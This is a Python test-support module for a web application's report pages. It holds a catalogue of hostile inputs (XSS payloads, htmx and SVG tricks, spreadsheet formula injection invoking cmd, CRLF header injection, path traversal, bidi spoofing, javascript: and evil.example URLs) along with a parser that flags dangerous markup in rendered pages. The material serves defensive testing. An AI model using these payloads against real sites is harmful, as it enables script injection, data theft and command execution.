"""Hostile input: what reports, titles, sources, addresses and file names may hold, and what no page may make of it.

Every page's tests use it: ``fill`` puts it into a record, ``faults`` says what in a page could run, load or mislead.
"""

import datetime as dt
import json
import re
from html.parser import HTMLParser
from urllib.parse import urlsplit

from contested.pipeline.ingest import ingest
from contested.record import open_record

WORD = "owned"
"""In every payload, so that a test can see that it was shown, as words."""

_FILE = "file:" + "//"
PAYLOADS = {
    "script": "<script>alert('owned')</script>",
    "script in odd case": "<ScRiPt >alert('owned')</sCrIpT >",
    "script with slash": "<script/owned>alert(1)</script>",
    "script cut by a null": "<scr\x00ipt>alert('owned')</scr\x00ipt>",
    "script from elsewhere": "<script src=//evil.example/owned.js></script>",
    "out of an attribute": "\"><script>alert('owned')</script>",
    "out of a single-quoted attribute": "'><script>alert(`owned`)</script>",
    "out of a title": "</title></head><script>alert('owned')</script>",
    "out of a text area": "</textarea><script>alert('owned')</script>",
    "out of a script": "</script><script>alert('owned')</script>",
    "out of a style": "</style><script>alert('owned')</script>",
    "out of a comment": "--><script>alert('owned')</script>",
    "out of a section": "]]><script>alert('owned')</script>",
    "image": "<img src=x onerror=alert('owned')>",
    "image unclosed": "<img src=x onerror=alert('owned')//",
    "handler in an attribute": "\" autofocus onfocus=alert('owned') x=\"",
    "handler without quotes": "x onmouseover=alert('owned') ",
    "handler after a slash": "<body/onload=alert('owned')>",
    "details": "<details open ontoggle=alert('owned')>",
    "video": "<video><source onerror=alert('owned')>",
    "svg": "<svg onload=alert('owned')>",
    "svg script": "<svg><script>alert('owned')</script></svg>",
    "svg link": "<svg><a xlink:href=\"javascript:alert('owned')\"><text>x</text></a></svg>",
    "svg animate": "<svg><animate onbegin=alert('owned') attributeName=x dur=1s>",
    "svg use": '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>owned</svg>#x"/></svg>',
    "svg foreign": "<svg><foreignObject><iframe srcdoc=owned></iframe></foreignObject></svg>",
    "math": "<math href=\"javascript:alert('owned')\">x</math>",
    "frame": "<iframe srcdoc=\"<script>alert('owned')</script>\"></iframe>",
    "object": '<object data="data:text/html,owned"></object>',
    "embed": "<embed src=javascript:alert('owned')>",
    "base": "<base href=//evil.example/owned/>",
    "refresh": "<meta http-equiv=refresh content='0;url=http://evil.example/owned'>",
    "style": "<style>@import '//evil.example/owned.css';</style>",
    "style in an attribute": '<p style="background:url(//evil.example/owned)">',
    "sheet": "<link rel=stylesheet href=//evil.example/owned.css>",
    "form": "<form action=//evil.example/owned><input name=csrf>",
    "button": "<button formaction=//evil.example/owned>Next</button>",
    "link": "<a href=\"javascript:alert('owned')\">owned</a>",
    "htmx": "<div hx-get=//evil.example/owned hx-trigger=load></div>",
    "htmx of our own": "<b hx-post=/review/owned hx-trigger=load>",
    "htmx handler": "<b hx-on:htmx:load=\"alert('owned')\">",
    "template": "{{ 7*7 }}{% raw %} owned {{ desk.path }}",
    "template of a script": "${alert('owned')}",
    "entities": "&lt;script&gt;alert('owned')&lt;/script&gt; &#x3C;script&#x3E;",
    "quotes": "owned\"'`\\",
    "escape sequence": "\x1b]0;owned\x07\x1b[31mowned\x1b[0m",
    "overriding": "owned \u202egnp.exe\u202c",
    "isolating": "owned \u2067evil\u2066 \u2069\u2069",
    "marks": "ow\u200fn\u200eed \u061cowned",
    "separators": "owned\u2028alert(1)\u2029",
    "tags": "owned\U000e0041\U000e007f",
    "formula": '=HYPERLINK("http://evil.example/owned","x")',
    "formula by at": "@SUM(1+1)*cmd|' /C owned'!A0",
    "end of an event": "owned\n\nevent: changed\ndata: owned\n\n",
    "end of a header": "owned\r\nSet-Cookie: owned=1\r\n\r\n<script>alert(1)</script>",
    "path": "../../../../owned",
}

ADDRESSES = (
    "javascript:alert('owned')",
    "JaVaScRiPt:alert('owned')",
    "java\tscript:alert('owned')",
    " javascript:alert('owned')",
    "data:text/html,<script>alert('owned')</script>",
    "vbscript:owned",
    _FILE + "/owned",
    "//evil.example/owned",
    "http://evil.example/\"onmouseover=\"alert('owned')",
    "http://evil.example/'onmouseover='alert(1)//owned",
    "http://evil.example/<script>alert('owned')</script>",
    "http://evil.example/\u202egro.doog//owned",
    "http://evil.example/owned\nSet-Cookie: a=b",
    "http://good.example@evil.example/owned",
    "http://[owned",
)

_TURNING = re.compile("[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\u2028\u2029\U000e0000-\U000e007f]")
_CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")
_NEVER = frozenset(
    "applet base embed frame frameset iframe object foreignobject math animate animatetransform set style".split()  # noqa: SIM905
)
_LOADS = frozenset({"src", "href", "xlink:href", "action", "formaction", "data", "poster", "background", "srcset"})
_ASKS = re.compile(r"hx-(get|post|put|patch|delete|push-url|replace-url)")


def lines():
    """Give JSON lines: each payload as title, source and words of a report that still tells of a capture."""
    for number, payload in enumerate(PAYLOADS.values()):
        yield {
            "url": ADDRESSES[number % len(ADDRESSES)],
            "title": f"Rebels {payload} capture Harim",
            "source": f"{payload} Herald {number}",
            "published": (dt.date(2018, 11, 1) + dt.timedelta(days=number % 40)).isoformat(),
            "text": f"IS captured the town of Harim from the SDF on Monday, {payload} said.\n\nThe SDF {payload} "
            "captured Raqqa on Tuesday, and killed 12 civilians there, residents said.",
        }


def fill(path, *, reference, folder):
    """Read it all into a record; give the ids of its reports."""
    file = folder / "hostile.jsonl"
    file.write_text("".join(json.dumps(line) + "\n" for line in lines()), encoding="utf-8")
    at = dt.datetime(2018, 12, 27, 9, tzinfo=dt.UTC)
    with open_record(path) as record:
        ingest([file], record=record, reference=reference, today=at.date(), at=at)
        return tuple(report.id for report in record.reports())


def faults(page):
    """Say what in a page of the desk could run, load from elsewhere, or mislead; empty when nothing could."""
    found = [f"direction mark {match.group()!r}" for match in _TURNING.finditer(page)]
    found += [f"control character {match.group()!r}" for match in _CONTROL.finditer(page)]
    reader = _Reader()
    reader.feed(page)
    reader.close()
    return found + reader.found


def shown(page):
    """Give the words that a reader of a page sees, on one line."""
    reader = _Reader()
    reader.feed(page)
    reader.close()
    return " ".join("".join(reader.words).split())


class _Reader(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found, self.words, self._script = [], [], False

    def handle_starttag(self, tag, attrs):
        given = {key.lower(): value or "" for key, value in attrs}
        self._script = tag == "script"
        if tag in _NEVER:
            self.found.append(f"<{tag}>")
        if tag == "script" and not _ours(given.get("src", ""), "/static/"):
            self.found.append(f"script from {given.get('src')!r}")
        if tag == "link" and not _ours(given.get("href", ""), "/static/"):
            self.found.append(f"sheet from {given.get('href')!r}")
        if tag == "meta" and given.get("http-equiv", "").lower() == "refresh" and not given["content"].isdigit():
            self.found.append(f"refresh to {given['content']!r}")
        for key, value in given.items():
            self._attribute(tag, key, value, given)

    handle_startendtag = handle_starttag

    def _attribute(self, tag, key, value, given):
        if (
            key.startswith(("on", "hx-on"))
            or key in {"style", "srcdoc"}
            or "js:" in (value if key == "hx-vals" else "")
        ):
            self.found.append(f"{key} of <{tag}>")
        if _ASKS.match(key) and value not in {"true", "false"} and (WORD in value or not _ours(value)):
            self.found.append(f"{key}={value!r}")
        if key in _LOADS and not _ours(value) and not (tag == "a" and key == "href" and _outward(value, given)):
            self.found.append(f"{key}={value!r} of <{tag}>")

    def handle_endtag(self, tag):
        self._script = self._script and tag != "script"

    def handle_data(self, data):
        if self._script and data.strip():
            self.found.append(f"script in the page: {data[:40]!r}")
        self.words.append(data)


def _ours(address, below="/"):
    """An address of the desk itself; a bare query, a part of the page, or nothing is one too."""
    if below == "/" and (address == "" or address[0] in "?#"):
        return True
    return address.startswith(below) and not address.startswith(("//", "/\\"))


def _outward(address, given):
    """A link to where a report stands: http or https, and the site is not told whence."""
    try:
        parts = urlsplit(address)
    except ValueError:
        return False
    told = given.get("rel", "").split()
    return parts.scheme in {"http", "https"} and bool(parts.hostname) and {"noreferrer", "noopener"} <= set(told)
